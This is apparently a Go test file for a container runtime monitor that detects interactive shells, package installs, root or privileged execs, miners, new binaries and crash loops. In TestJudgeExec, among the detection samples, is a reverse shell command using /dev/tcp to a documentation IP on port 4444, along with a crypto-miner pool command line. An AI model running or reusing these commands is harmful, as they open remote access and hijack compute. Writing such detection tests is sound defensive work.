package runtime

import (
	"fmt"
	"os"
	"path/filepath"
	"reflect"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/moby/moby/api/types/container"
)

var noon = time.Date(2026, 11, 24, 12, 0, 0, 0, time.UTC)

func facts() *Facts {
	return &Facts{ID: "c0ffee", Name: "web", Service: "web", Image: "sha256:1", PID: 10, User: "1000", Started: noon.Add(-time.Hour), Command: "serve", Health: "/bin/sh -c curl -f http://localhost", OwnNetwork: true, Running: true}
}

func checksOf(alerts []Alert) string {
	var out []string
	for _, a := range alerts {
		out = append(out, a.Check)
	}
	return strings.Join(out, " ")
}

// TestJudgeExec says of commands that people and programs start in containers
// what they are.
func TestJudgeExec(t *testing.T) {
	tty := func(command ...string) Exec { return Exec{Command: command, TTY: true, Stdin: true} }
	plain := func(command ...string) Exec { return Exec{Command: command} }
	for _, c := range []struct {
		e    Exec
		want string
	}{
		{tty("bash"), ShellOpened},
		{tty("/bin/sh", "-l"), ShellOpened},
		{tty("busybox", "ash"), ShellOpened},
		{tty("env", "TERM=xterm", "bash"), ShellOpened},
		{tty("env", "-u", "HOME", "bash"), ShellOpened},
		{tty("sudo", "-u", "app", "bash"), ShellOpened},
		{tty("sudo", "-u", "app", "A=b", "bash"), ShellOpened},
		{tty("gosu", "app", "sh"), ShellOpened},
		{tty("timeout", "-k", "5", "60", "sh"), ShellOpened},
		{tty("bash", "-o", "vi"), ShellOpened},
		{tty("bash", "--rcfile", "/x"), ShellOpened},
		{tty("bash", "-o", "pipefail", "-c", "true"), ""},
		{tty("bash", "--rcfile", "/x", "/run.sh"), ""},
		{tty("sh", "-c", "clear; (bash || ash || sh)"), ShellOpened},
		{tty("sh", "-c", "exec bash"), ShellOpened},
		{Exec{Command: []string{"sh"}, Stdin: true}, ShellOpened},
		{plain("sh"), ""}, // it ends at once
		{tty("psql", "-U", "shop"), ""},
		{tty("sh", "/scripts/seed.sh"), ""},
		{plain("sh", "-c", "pg_dump shop > /backup/shop"), ""},
		{tty("python"), ""},
		{plain("apt-get", "update"), PackageManagerRun},
		{plain("apt-get", "-y", "install", "vim"), PackageManagerRun},
		{plain("sh", "-c", "set -e; apk add --no-cache curl"), PackageManagerRun},
		{plain("bash", "-lc", "sudo dpkg -i /tmp/x.deb"), PackageManagerRun},
		{tty("bash", "-c", "if true; then yum install -y nmap; fi"), PackageManagerRun},
		{plain("apt", "list", "--installed"), ""},
		{plain("dpkg", "-l"), ""},
		{plain("rpm", "-qa"), ""},
		{plain("npm", "install"), ""},
		{plain("echo", "apt-get install"), ""},
		{Exec{Command: []string{"id"}, Privileged: true}, ExecPrivileged},
		{Exec{Command: []string{"id"}, User: "0:0"}, ExecRoot},
		{Exec{Command: []string{"id"}, User: "1000"}, ""},
		{Exec{Command: []string{"bash"}, TTY: true, User: "root", Privileged: true}, ExecPrivileged + " " + ExecRoot + " " + ShellOpened},
		{plain("/bin/sh", "-c", "curl -f http://localhost"), ""},
		{Exec{Command: []string{"/bin/sh", "-c", "curl -f http://localhost"}, Privileged: true}, ExecPrivileged},
		{plain("sh", "-c", "bash -i >& /dev/tcp/192.0.2.1/4444 0>&1"), OutboundSuspicious},
		{plain("/tmp/x", "-o", "stratum+tcp://pool.example:3333"), UnexpectedProcess},
		{plain("sh", "-c", "unterminated 'quote; apt-get install x"), ""}, // no shell would run it either
		{plain(), ""},
	} {
		if got := checksOf(JudgeExec(facts(), c.e, noon)); got != c.want {
			t.Errorf("%q: %q, want %q", c.e.Line(), got, c.want)
		}
	}
	root := facts()
	root.User = ""
	if got := JudgeExec(root, Exec{Command: []string{"id"}, User: "0"}, noon); len(got) > 0 {
		t.Errorf("root in a container of root is told: %v", got)
	}
}

// TestMasked holds that what is secret in a command is in no alert.
func TestMasked(t *testing.T) {
	const canary = "not-a-real-canary-0042"
	e := Exec{Command: []string{"sh", "-c", "apk add --token=" + canary + " x; mysql --password " + canary + "; PGPASSWORD=" + canary + " psql"}, Privileged: true, User: "0", TTY: true}
	for _, a := range JudgeExec(facts(), e, noon) {
		if text := fmt.Sprintf("%+v %s", a.Clean(), a.Clean().Message); strings.Contains(text, canary) {
			t.Errorf("the canary is in %s", text)
		}
	}
	p := Process{PID: 11, Parent: 10, Command: "xmrig -p " + canary}
	for _, a := range NewMonitor(Options{}).Seen(facts(), Look{At: noon, CPU: -1, Processes: []Process{{PID: 10}, p}}) {
		if text := fmt.Sprintf("%+v %s", a.Clean(), a.Clean().Message); strings.Contains(text, canary) {
			t.Errorf("the canary is in %s", text)
		}
	}
}

// learned returns a monitor that has watched a container for long enough.
func learned(t *testing.T, f *Facts, all ...Process) *Monitor {
	t.Helper()
	m := NewMonitor(Options{})
	for i := range 100 {
		if a := m.Seen(f, Look{At: noon.Add(time.Duration(i-100) * time.Minute), Source: Top, CPU: 0.1, Processes: all, Changed: []container.FilesystemChange{}, Listening: []Listener{{Port: 80}}}); len(a) > 0 {
			t.Fatalf("while it learns: %v", a)
		}
	}
	return m
}

func TestLearned(t *testing.T) {
	first := Process{PID: 10, Parent: 9, Command: "serve"}
	cron := Process{PID: 12, Parent: 10, Command: "crond -f"}
	usual := []Process{first, {PID: 11, Parent: 10, Command: "worker --n 1"}, cron}
	with := func(p ...Process) []Process { return append(append([]Process{}, usual...), p...) }
	for name, c := range map[string]struct {
		look Look
		want string
	}{
		"the same":            {Look{Processes: with()}, ""},
		"another worker":      {Look{Processes: with(Process{PID: 20, Parent: 10, Command: "worker --n 2"})}, ""},
		"by cron":             {Look{Processes: with(Process{PID: 20, Parent: 12, Command: "logrotate"})}, ""},
		"entered":             {Look{Processes: with(Process{PID: 20, Parent: 9, Command: "pg_dump"})}, ""},
		"a shell":             {Look{Processes: with(Process{PID: 20, Parent: 11, Command: "sh -i"})}, ShellOpened},
		"something else":      {Look{Processes: with(Process{PID: 20, Parent: 11, Command: "perl -e x"})}, UnexpectedProcess},
		"entered, a miner":    {Look{Processes: with(Process{PID: 20, Parent: 9, Command: "xmrig"})}, UnexpectedProcess},
		"packages":            {Look{Processes: with(Process{PID: 20, Parent: 9, Command: "apt-get install vim"})}, PackageManagerRun},
		"shell on a socket":   {Look{Processes: with(Process{PID: 20, Parent: 11, Command: "sh"}), Sockets: map[int]bool{20: true}}, OutboundSuspicious},
		"server on a socket":  {Look{Processes: with(Process{PID: 20, Parent: 10, Command: "worker"}), Sockets: map[int]bool{20: true}}, ""},
		"a port":              {Look{Listening: []Listener{{Port: 80}, {Port: 4444}}}, UnexpectedListener},
		"a port for itself":   {Look{Listening: []Listener{{Port: 80}, {Port: 45123, Loopback: true}}}, ""},
		"a program":           {Look{Changed: diff("/tmp", "/tmp/x", "/tmp/y.txt"), Programs: map[string]time.Time{"/tmp/x": noon}}, FileDrift},
		"files":               {Look{Changed: diff("/tmp", "/tmp/y.txt"), Programs: map[string]time.Time{}}, ""},
		"a program on a disk": {Look{Changed: diff("/data/x"), Programs: map[string]time.Time{"/data/x": noon}}, ""},
	} {
		f := facts()
		f.Mounts = []string{"/data"}
		m := learned(t, f, usual...)
		c.look.At, c.look.Source, c.look.CPU = noon, Proc, -1
		if got := checksOf(m.Seen(f, c.look)); got != c.want {
			t.Errorf("%s: %q, want %q", name, got, c.want)
		}
		c.look.At = noon.Add(time.Second)
		if got := checksOf(m.Seen(f, c.look)); got != "" {
			t.Errorf("%s: said again: %q", name, got)
		}
	}
}

func diff(paths ...string) []container.FilesystemChange {
	var out []container.FilesystemChange
	for _, p := range paths {
		out = append(out, container.FilesystemChange{Kind: container.ChangeAdd, Path: p})
	}
	return out
}

// TestFlood holds that one program among many new files is found in the end.
func TestFlood(t *testing.T) {
	f := facts()
	m := learned(t, f, Process{PID: 10, Command: "serve"})
	var paths []string
	for i := range 200 {
		paths = append(paths, fmt.Sprintf("/tmp/%03d", i))
	}
	found := false
	for i := range 20 {
		l := Look{At: noon.Add(time.Duration(i) * time.Second), CPU: -1, Changed: diff(paths...), Programs: map[string]time.Time{}}
		fresh := m.New(f, l.Changed)
		if again := m.New(f, l.Changed); !slices.Equal(fresh, again) {
			t.Fatalf("asked twice about one look: %v, then %v", fresh, again)
		}
		for _, p := range fresh {
			if p == "/tmp/150" {
				l.Programs[p] = noon
			}
		}
		found = found || checksOf(m.Seen(f, l)) == FileDrift
	}
	if !found {
		t.Error("a program hides among many files")
	}
}

func TestCPU(t *testing.T) {
	f := facts()
	m := learned(t, f, Process{PID: 10, Command: "serve"})
	said := ""
	for i := range 30 {
		said += checksOf(m.Seen(f, Look{At: noon.Add(time.Duration(i) * time.Minute), CPU: 1.5}))
	}
	if said != CPUSustained {
		t.Errorf("half an hour of computing: %q", said)
	}
	f.CPULimited = true
	m = learned(t, f, Process{PID: 10, Command: "serve"})
	for i := range 30 {
		if a := m.Seen(f, Look{At: noon.Add(time.Duration(i) * time.Minute), CPU: 1.5}); len(a) > 0 {
			t.Errorf("limited, and told: %v", a)
		}
	}
}

func TestDied(t *testing.T) {
	f, m := facts(), NewMonitor(Options{})
	said := ""
	for i, code := range []string{"0", "1", "0", "1", "1", "1"} {
		f.Started = noon.Add(time.Duration(i) * time.Second)
		said += " " + checksOf(m.Died(f, code, i == 3, f.Started.Add(500*time.Millisecond)))
	}
	if strings.Fields(said)[0] != CrashLooping || len(strings.Fields(said)) != 1 {
		t.Errorf("three failures among other ends: %q", said)
	}
	m = NewMonitor(Options{})
	for i := range 10 {
		if a := m.Died(f, "1", false, noon.Add(time.Duration(i)*time.Hour)); len(a) > 0 {
			t.Errorf("a failure each hour: %v", a)
		}
	}
}

// TestNormals keeps what was learned over a restart, does not know a new image
// by it, and does not forget the one for the other: both run while a service is
// updated.
func TestNormals(t *testing.T) {
	f := facts()
	m := learned(t, f, Process{PID: 10, Command: "serve"})
	kept, changed := m.o.Normals.Learned()
	if !changed || len(kept["web@sha256:1"].Programs) == 0 {
		t.Fatalf("learned %+v, changed %t", kept, changed)
	}
	var ns Normals
	ns.Restore(kept)
	m = NewMonitor(Options{Normals: &ns})
	strange := Look{At: noon, CPU: -1, Source: Top, Processes: []Process{{PID: 10, Command: "serve"}, {PID: 11, Parent: 10, Command: "perl"}}}
	if got := checksOf(m.Seen(f, strange)); got != UnexpectedProcess {
		t.Errorf("after a restart: %q", got)
	}
	f.Image = "sha256:2"
	if got := checksOf(NewMonitor(Options{Normals: &ns}).Seen(f, strange)); got != "" {
		t.Errorf("of another image: %q", got)
	}
	f.Image = "sha256:1"
	if got := checksOf(NewMonitor(Options{Normals: &ns}).Seen(f, strange)); got != UnexpectedProcess {
		t.Errorf("after another image was looked at: %q", got)
	}
	old := Normals{}
	old.Restore(map[string]Normal{"web": kept["web@sha256:1"]}) // as it was once kept
	if got := checksOf(NewMonitor(Options{Normals: &old}).Seen(f, strange)); got != UnexpectedProcess {
		t.Errorf("from a file of an earlier version: %q", got)
	}
}

// What a container does to keep its watcher busy, or to be forgotten, is bounded.
func TestFloods(t *testing.T) {
	f := facts()
	m := NewMonitor(Options{})
	deep := Look{At: noon, CPU: -1, Source: Top}
	for i := range mostProcesses {
		deep.Processes = append(deep.Processes, Process{PID: 10 + i, Parent: 9 + i, Command: "sh"})
	}
	for range 3 { // each look a chain of forks: with a search for every parent this would take hours
		m.Seen(f, deep)
		deep.Processes[0].Command += "x"
	}
	for i := range 5000 {
		at := noon.Add(time.Duration(i) * time.Second)
		m.Seen(f, Look{At: at, CPU: -1, Source: Top, Processes: []Process{{PID: 10, Command: "serve"}, {PID: 20 + i, Parent: 10, Command: fmt.Sprintf("/tmp/%d/xmrig%d", i, i)}}})
	}
	if n := len(m.runs[f.ID].said); n > mostSaid+100 {
		t.Errorf("%d alerts are remembered", n)
	}
	all := map[string]Normal{}
	for i := range 2 * mostServices {
		all[fmt.Sprint(i)] = Normal{Last: noon.Add(time.Duration(i) * time.Second)}
	}
	if Trim(all); len(all) != mostServices || all[fmt.Sprint(2*mostServices-1)].Last.IsZero() {
		t.Errorf("%d normals are kept", len(all))
	}
	if got := insert(nil, strings.Repeat("x", 1<<20), mostPrograms); len(got[0]) > longestName {
		t.Errorf("a name of %d bytes is kept", len(got[0]))
	}
}

func TestHealthCommand(t *testing.T) {
	for want, test := range map[string][]string{
		"":                          {"NONE"},
		"/probe -check":             {"CMD", "/probe", "-check"},
		"/bin/sh -c curl -f x || y": {"CMD-SHELL", "curl -f x || y"},
	} {
		if got := healthCommand(test, nil); got != want {
			t.Errorf("%q: %q, want %q", test, got, want)
		}
	}
	f := facts()
	if !f.HealthCheck("exec_create: /bin/sh -c curl -f http://localhost") || f.HealthCheck("exec_create: sh") {
		t.Error("health checks are not told apart")
	}
}

// TestLineage holds that a hostile answer, which goes in a circle, ends.
func TestLineage(t *testing.T) {
	all := []Process{{PID: 1, Parent: 2}, {PID: 2, Parent: 1}, {PID: 3, Parent: 3}}
	l := LineageOf(all)
	for _, p := range all {
		l.Of(p)
		l.Entered(p, 10)
	}
}

func FuzzCommands(f *testing.F) {
	for _, s := range []string{"sh -c 'apt-get install x'", "bash -i", "env A=b busybox sh", "sh -c", "-sh", ""} {
		f.Add(s)
	}
	f.Fuzz(func(_ *testing.T, line string) {
		JudgeExec(facts(), Exec{Command: strings.Fields(line), TTY: true}, noon)
		JudgeExec(facts(), ExecEvent("1", "exec_create: "+line), noon)
	})
}

// TestStore holds that a damaged file, and one of another version, lose nothing
// but what can be learned again.
func TestStore(t *testing.T) {
	path := filepath.Join(t.TempDir(), "new", "normal.json")
	if got, err := Load(path); got != nil || err != nil {
		t.Errorf("no file: %v %v", got, err)
	}
	want := map[string]Normal{"web": {Image: "sha256:1", Programs: []string{"serve"}, Watched: time.Hour, Looks: 30}}
	if err := Save(path, want); err != nil {
		t.Fatal(err)
	}
	if info, err := os.Stat(path); err != nil || info.Mode().Perm() != 0o600 {
		t.Errorf("mode %v, %v", info.Mode(), err)
	}
	if got, err := Load(path); err != nil || !reflect.DeepEqual(got, want) {
		t.Errorf("got %+v, %v", got, err)
	}
	for text, fails := range map[string]bool{`{"schema":99,"normals":{"web":{}}}`: false, `{"schema":`: true} {
		if err := os.WriteFile(path, []byte(text), 0o600); err != nil {
			t.Fatal(err)
		}
		if got, err := Load(path); len(got) > 0 || (err != nil) != fails {
			t.Errorf("%s: %v %v", text, got, err)
		}
	}
}

// TestProgramSeenBeforeItsFile: processes are looked at more often than files,
// and one whose program turns out to be new is judged again.
func TestProgramSeenBeforeItsFile(t *testing.T) {
	f := facts()
	first := Process{PID: 10, Command: "serve"}
	m := learned(t, f, first)
	m.Exec(f, Exec{Command: []string{"id"}}, noon)
	dropped := Process{PID: 12, Parent: 11, Command: "/tmp/tool --quiet"}
	if a := m.Seen(f, Look{At: noon, Source: Proc, CPU: -1, Processes: []Process{first, dropped}}); len(a) > 0 {
		t.Errorf("before anybody knows: %v", a)
	}
	a := m.Seen(f, Look{
		At: noon.Add(time.Second), Source: Proc, CPU: -1, Processes: []Process{first, dropped},
		Changed: []container.FilesystemChange{{Kind: container.ChangeAdd, Path: "/tmp/tool"}}, Programs: map[string]time.Time{"/tmp/tool": noon},
	})
	if got := checksOf(a); got != FileDrift+" "+UnexpectedProcess {
		t.Errorf("%s: %v", got, a)
	}
}
